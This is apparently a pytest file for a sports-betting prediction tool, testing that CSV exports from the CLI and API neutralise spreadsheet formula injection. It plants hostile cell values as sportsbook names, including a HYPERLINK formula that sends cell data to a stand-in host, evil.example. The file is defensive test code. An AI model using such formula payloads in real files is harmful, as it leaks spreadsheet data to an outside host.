"""CSV exports neutralise formula cells (issue 17, finding 8): OWASP's rule at every CSV writer.

A sportsbook name from a lines file (``=HYPERLINK("http://evil.example/?x="&A1,"odds")``) reaches the main table
at prediction time; before the fix it came out raw in ``nbaprops predictions --csv``, ``nbaprops picks --csv``
and ``GET /v1/predictions`` with ``Accept: text/csv``, and a spreadsheet opening the file ran it.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.service.conftest import KEYS, LiveServer, copy_db, service_settings
from typer.testing import CliRunner

from nbaprops.cli import app
from nbaprops.exports import FORMULA_STARTS, csv_text, safe_cell

DAY = "2025-02-19"  # one game (LAL - CHA): a batch of 20 players
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"odds")'
BOOKS = {"LeBron James": HYPERLINK, "Miles Bridges": "@SUM(1+1)", "Rui Hachimura": "-2+3"}

runner = CliRunner()


@given(st.text(max_size=20))
@settings(max_examples=100, deadline=None)
def test_a_cell_never_starts_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert cell in (text, "'" + text)
    if cell != text:
        assert text.startswith(FORMULA_STARTS)
    else:
        assert not text.startswith(FORMULA_STARTS) or isinstance(float(text), float)  # a plain number


@pytest.mark.parametrize("number", ["-3.5", "+120", "-110", "1e-3", "-.5", "+0"])
def test_numbers_stay_numbers(number: str) -> None:
    assert safe_cell(number) == number


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+1-2", "'+1-2"),
        ("-inf", "'-inf"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("Jayson Tatum", "Jayson Tatum"),
        ("", ""),
    ],
)
def test_formula_cells_get_a_quote(text: str, shown: str) -> None:
    assert safe_cell(text) == shown
    assert next(csv.reader(io.StringIO(csv_text(["a"], [[text]])).readlines()[1:])) == [shown]


def test_cells_that_are_not_text_are_unchanged() -> None:
    assert [safe_cell(v) for v in (-3.5, 120, None, True)] == [-3.5, 120, None, True]


@pytest.fixture(scope="module")
def predicted_db(loaded_db_file: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database where three players of 2025-02-19 were predicted against lines from books with formula
    names, and LeBron James's row recommends OVER (so ``picks`` has a pick to export)."""
    folder = tmp_path_factory.mktemp("exports")
    db = copy_db(loaded_db_file, folder)
    lines = folder / "lines.csv"
    with lines.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(
            ["game_date", "player_name", "market", "line", "bookmaker", "over_price", "under_price"]
        )
        for player, book in BOOKS.items():
            writer.writerow([DAY, player, "points", "20.5", book, "-110", "+105"])
    result = runner.invoke(
        app,
        [
            "predict",
            "--date",
            DAY,
            "--systems",
            "moving_average",
            "--markets",
            "points",
            "--train-days",
            "30",
            "--lines",
            str(lines),
            "--db",
            str(db),
            "--json",
        ],
    )
    assert result.exit_code == 0, result.output
    import duckdb

    with duckdb.connect(str(db)) as con:
        changed = con.execute(
            """UPDATE player_prop_predictions SET recommendation = 'OVER', expected_value = 0.2,
                      confidence_score = 0.6
               WHERE is_active AND game_date = ? AND player_name = 'LeBron James'""",
            [DAY],
        ).fetchall()
    assert changed[0][0] == 1
    return db


def books_in(text: str) -> dict[str, str]:
    """Player → sportsbook cell of a CSV export."""
    return {r["player_name"]: r["sportsbook"] for r in csv.DictReader(io.StringIO(text)) if r["sportsbook"]}


def test_predictions_csv_neutralises_formulas(predicted_db: Path) -> None:
    """Before: ``=HYPERLINK(...)`` and ``@SUM(1+1)`` came out as written."""
    result = runner.invoke(app, ["predictions", "--date", DAY, "--csv", "--db", str(predicted_db)])
    assert result.exit_code == 0, result.output
    assert books_in(result.stdout) == {player: "'" + book for player, book in BOOKS.items()}
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {r["under_price"] for r in rows if r["sportsbook"]} == {"105.0"}  # numbers stay numbers
    assert all(not r["line_value"].startswith("'") for r in rows)


def test_picks_csv_neutralises_formulas(predicted_db: Path) -> None:
    """Before: the pick's sportsbook ``=HYPERLINK(...)`` came out as written."""
    result = runner.invoke(
        app, ["picks", "--date", DAY, "--system", "moving_average", "--csv", "--db", str(predicted_db)]
    )
    assert result.exit_code == 0, result.output
    pick = next(csv.DictReader(io.StringIO(result.stdout)))  # the pick's offer and its system's own book
    assert (pick["player_name"], pick["bookmaker"], pick["system_book"]) == (
        "LeBron James",
        *["'" + HYPERLINK] * 2,
    )
    assert pick["price"] == "-110.0"


def test_the_api_csv_neutralises_formulas(predicted_db: Path, tmp_path: Path) -> None:
    """Before: ``GET /v1/predictions`` with ``Accept: text/csv`` returned ``=HYPERLINK(...)`` as written."""
    db = copy_db(predicted_db, tmp_path / "api")
    with (
        LiveServer(service_settings(db, tmp_path / "artifacts")) as server,
        httpx.Client(base_url=server.url, headers={"X-API-Key": KEYS[0]}, timeout=60) as client,
    ):
        response = client.get("/v1/predictions", params={"date": DAY}, headers={"Accept": "text/csv"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert books_in(response.text) == {player: "'" + book for player, book in BOOKS.items()}
